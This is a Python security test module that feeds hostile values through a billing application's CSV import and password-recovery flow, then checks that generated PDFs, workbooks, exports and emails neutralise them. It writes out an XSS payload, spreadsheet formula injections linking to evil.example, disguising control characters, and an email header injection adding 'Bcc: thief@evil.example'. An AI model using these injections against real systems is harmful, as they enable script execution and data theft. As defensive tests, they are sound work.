"""Names that are markup, formulas or disguise: imported from billing, looked for in documents."""

import csv
from collections.abc import Iterator, Mapping
from contextlib import suppress
from io import BytesIO
from pathlib import Path
from typing import Any, Final

from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import update
from sqlmodel import col, select

from bench.attacks.documents import send_reading
from bench.attacks.tally import Tally
from bench.attacks.target import Target
from cabinet.core.clock import now
from cabinet.core.errors import Refused
from cabinet.exchange.kinds import KINDS
from cabinet.exchange.service import Imported, import_file
from cabinet.models import Contract, User

MARKUP: Final = "<img src=x onerror=alert(1)>"
FORMULA: Final = '=HYPERLINK("http://evil.example","x")'
_SUM: Final = "@SUM(1+1)"
_DISGUISED: Final = ("\u202egnp.exe", "two\nlines", "a\u200bb", "\x00", "a\u2028b", "\x1b[31m")
_ACTIONS: Final = ("/JS", "/JavaScript", "/URI", "/Launch", "/OpenAction", "/SubmitForm", "/AA")
_DOCUMENTS: Final = (
    "charges.pdf?period=2026-10",
    "charges.xlsx?period=2026-10",
    "notice.pdf?period=2026-10",
    "reconciliation.pdf?from=2026-10-01&to=2026-10-31",
    "reconciliation.xlsx?from=2026-10-01&to=2026-10-31",
    "readings-history.xlsx",
    "readings-template.xlsx",
)


def hostile_names(target: Target, tally: Tally) -> None:
    """Import markup and formulas; every document shows them as text, and none acts on them."""
    _import_hostile(target)
    receipt = send_reading(target, target.alice.login)
    paths = [*_DOCUMENTS, f"receipt.pdf?number={receipt}"]
    shown = ""
    with target.http(cookie=target.alice.cookie, seconds=40) as http:
        for path in paths:
            answer = http.get(f"/documents/{path}")
            assert answer.status_code == 200, f"{path} was answered {answer.status_code}"
            look = _look_at_pdf if ".pdf" in path else _look_at_workbook
            text, problems = look(answer.content)
            shown += text
            tally.check(held=not problems, otherwise=f"{path}: {', '.join(problems)}")
    for name in (MARKUP, FORMULA, _SUM):
        tally.check(
            held="".join(name.split()) in "".join(shown.split()), otherwise=f"{name} is nowhere"
        )
    for cell in _exported(target):
        tally.check(held=not _is_formula(cell), otherwise=f"the export has the cell {cell}")


def _import_hostile(target: Target) -> None:
    with target.database.reading() as session:
        contract = session.exec(select(Contract).where(Contract.number == "4040")).one()
    own = {"contract": contract.number, "account": "00009999"}
    files: dict[str, dict[str, object]] = {
        "contracts": {
            "kind": contract.kind,
            "number": contract.number,
            "payer": f"{MARKUP} {FORMULA}",
            "bin_iin": contract.bin_iin,
            "phone": _SUM,
            "address": FORMULA,
        },
        "recipients": {**own, "recipient": FORMULA, "address": MARKUP},
        "meters": {
            **own,
            "meter_id": _SUM,
            "water": "cold",
            "serial": "5; =1+1",
            "status": "installed",
            "location": f"{FORMULA} \uffff",
        },
        "readings": {"meter_id": _SUM, "value": "5", "taken_on": "2026-10-20", "source": FORMULA},
        "charges": {
            **own,
            "period": "2026-10",
            "recipient": FORMULA,
            "service": "water",
            "volume_m3": "5",
            "tariff": "100",
            "vat_percent": "16",
            "amount": "580",
        },
        "ledger": {
            "contract": contract.number,
            "date": "2026-10-20",
            "kind": "payment",
            "document": FORMULA,
            "debit": "",
            "credit": "5",
        },
    }
    for kind, row in files.items():
        done = _imported(target, kind, row)
        assert not done.bad_rows, f"{kind}: {done.bad_rows}"


def _imported(target: Target, kind: str, row: Mapping[str, object]) -> Imported:
    """Import a file of one row, as billing does."""
    file = _file(target, kind, row)
    return import_file(target.database, kind=KINDS[kind], file=file, now=now())


def _file(target: Target, name: str, row: Mapping[str, object]) -> Path:
    file = target.server.data_dir / f"{name}.csv"
    with file.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(row)
        writer.writerow(row.values())
    return file


def _look_at_workbook(content: bytes) -> tuple[str, list[str]]:
    text, problems = "", []
    for sheet in load_workbook(BytesIO(content)):
        for row in sheet.iter_rows():
            for cell in row:
                text += f" {cell.value}"
                if cell.data_type == "f":
                    problems.append(f"a formula in {cell.coordinate}")
                if cell.hyperlink:
                    problems.append(f"a link in {cell.coordinate}")
    return text, problems


def _look_at_pdf(content: bytes) -> tuple[str, list[str]]:
    reader = PdfReader(BytesIO(content))
    objects = [reader.get_object(number) for number in range(1, _size(reader))]
    names = {name for one in objects for name in _names_in(one)}
    return "".join(page.extract_text() for page in reader.pages), sorted(names & {*_ACTIONS})


def _size(reader: PdfReader) -> int:
    size = reader.trailer["/Size"]
    assert isinstance(size, int)
    return size


def _names_in(one: Any) -> Iterator[str]:
    """The keys and values of a PDF's object, and of what it holds directly."""
    if isinstance(one, dict):
        for key, value in one.items():
            yield str(key)
            yield from _names_in(value)
    elif isinstance(one, list):
        for value in one:
            yield from _names_in(value)
    elif isinstance(one, str):
        yield one


def _exported(target: Target) -> list[str]:
    """The cells of billing's export of readings."""
    file = target.server.data_dir / "exported.csv"
    done = target.server.cabinet("export", "readings", "--period", "2026-10", "--output", file)
    assert done.returncode == 0, done.stderr
    with file.open(encoding="utf-8-sig", newline="") as lines:
        dialect = csv.Sniffer().sniff(lines.readline())
        cells = [cell for row in csv.reader(lines, dialect) for cell in row]
    assert any(_SUM in cell for cell in cells), "the hostile meter is not exported"
    return cells


def _is_formula(cell: str) -> bool:
    """Return whether a spreadsheet would run it, or what follows a semicolon."""
    pieces = [piece.strip() for piece in cell.split(";")]
    return any(
        one.startswith(("=", "+", "@")) or (one.startswith("-") and "(" in one) for one in pieces
    )


def disguised_names(target: Target, tally: Tally) -> None:
    """Import names with line breaks, control and invisible characters."""
    with target.database.reading() as session:
        contract = session.exec(select(Contract).where(Contract.number == "400400")).one()
    row = {"kind": contract.kind, "number": contract.number, "bin_iin": contract.bin_iin}
    for name in _DISGUISED:
        with suppress(Refused):  # of a file that is no table: nothing was taken either
            done = _imported(target, "contracts", {**row, "payer": f"ТОО {name} Пример"})
            if not done.bad_rows:
                tally.falls.append(f"{name!r} was taken")
        tally.tries += 1


def names_in_letters(target: Target, tally: Tally) -> None:
    """Ask for a letter to somebody whose name is markup and looks like headers."""
    who, name = target.charlie, f"{MARKUP}\r\nBcc: thief@evil.example\r\n\r\n{FORMULA}"
    with target.database.writing() as session:
        session.execute(update(User).where(col(User.login) == who.login).values(name=name))
    with target.http() as http:
        http.post("/recovery", data={"identifier": who.login})
    letter = target.server.mailbox.wait_for(f"{who.login}@", seconds=30)
    tally.check(held="Bcc" not in letter, otherwise="the name became a header")
    for header, value in letter.items():
        tally.check(
            held="\n" not in value and "evil.example" not in value,
            otherwise=f"{header} has the name's lines",
        )
    html = letter.get_body(("html",))
    if html is not None:
        tally.check(held=MARKUP not in html.get_content(), otherwise="the name is markup")
